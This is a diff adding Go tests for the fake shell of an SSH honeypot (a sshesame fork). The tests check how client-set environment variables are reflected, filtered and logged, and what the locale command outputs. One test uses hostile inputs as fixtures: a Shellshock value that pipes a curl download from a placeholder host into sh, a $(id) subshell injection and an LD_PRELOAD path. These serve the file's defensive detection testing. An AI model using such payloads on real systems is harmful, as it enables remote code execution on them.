@@ -0,0 +1,80 @@
+package shell
+
+import (
+	"github.com/longkeyy/sshesame/config"
+	"strings"
+	"testing"
+)
+
+func TestClientEnvironmentReflected(t *testing.T) {
+	hook := captureLog(t)
+	sess := newTestSession("root")
+	for name, value := range map[string]string{
+		"LC_PROBE":   "c2VjcmV0",
+		"PATH":       "/tmp/evil",
+		"LD_LIBRARY": "/tmp",
+		"BAD-NAME":   "x",
+	} {
+		SetEnv(sess, "session", name, value)
+	}
+	if len(hook.AllEntries()) != 0 {
+		t.Errorf("logged %v for safe variables", hook.LastEntry().Message)
+	}
+	shell := newTestShell(sess, config.Shell{})
+	if stdout := output(t, shell, "echo $LC_PROBE"); stdout != "c2VjcmV0\n" {
+		t.Errorf("echo $LC_PROBE = %q, want the value the client set", stdout)
+	}
+	if stdout := output(t, shell, "printenv PATH"); stdout != servicePath+"\n" {
+		t.Errorf("printenv PATH = %q, want the fake system's", stdout)
+	}
+	env := output(t, shell, "env")
+	if !strings.Contains(env, "\nLC_PROBE=c2VjcmV0\n") || strings.Contains(env, "LD_LIBRARY") || strings.Contains(env, "/tmp/evil") {
+		t.Errorf("env = %q, want only the safe variable set by the client", env)
+	}
+}
+
+func TestInjectedEnvironmentLogged(t *testing.T) {
+	hook := captureLog(t)
+	sess := newTestSession("root")
+	for name, value := range map[string]string{
+		"LC_SHELLSHOCK": "() { :; }; curl http://192.0.2.1/x | sh",
+		"LC_SUBSHELL":   "$(id)",
+		"LD_PRELOAD":    "/tmp/x.so",
+	} {
+		hook.Reset()
+		SetEnv(sess, "session", name, value)
+		entry := hook.LastEntry()
+		if entry == nil || entry.Message != "Suspicious environment variable received" || entry.Data["name"] != name || entry.Data["value"] != value || entry.Data["category"] != "injection_attempt" {
+			t.Errorf("setting %v logged %v, want it suspicious", name, entry)
+		}
+		if _, ok := sess.Env()[name]; ok {
+			t.Errorf("suspicious %v reflected", name)
+		}
+	}
+}
+
+func TestLocale(t *testing.T) {
+	for _, test := range []struct {
+		env  map[string]string
+		want []string
+	}{
+		{map[string]string{}, []string{"LANG=C.UTF-8\n", "LC_CTYPE=\"C.UTF-8\"\n", "LC_ALL=\n"}},
+		{map[string]string{"LANG": "de_DE.UTF-8", "LC_TIME": "en_GB.UTF-8"}, []string{"LANG=de_DE.UTF-8\n", "LC_CTYPE=\"de_DE.UTF-8\"\n", "LC_TIME=en_GB.UTF-8\n", "LC_ALL=\n"}},
+		{map[string]string{"LANG": "de_DE.UTF-8", "LC_ALL": "fr_FR.UTF-8"}, []string{"LANG=de_DE.UTF-8\n", "LC_TIME=\"fr_FR.UTF-8\"\n", "LC_ALL=fr_FR.UTF-8\n"}},
+	} {
+		sess := newTestSession("root")
+		for name, value := range test.env {
+			SetEnv(sess, "session", name, value)
+		}
+		shell := newTestShell(sess, config.Shell{})
+		locale := output(t, shell, "locale")
+		for _, line := range test.want {
+			if !strings.Contains(locale, line) {
+				t.Errorf("with %v, locale = %q, want %q", test.env, locale, line)
+			}
+		}
+		if lang := output(t, shell, "echo $LANG"); !strings.Contains(locale, "LANG="+lang) {
+			t.Errorf("with %v, $LANG = %q disagrees with locale %q", test.env, lang, locale)
+		}
+	}
+}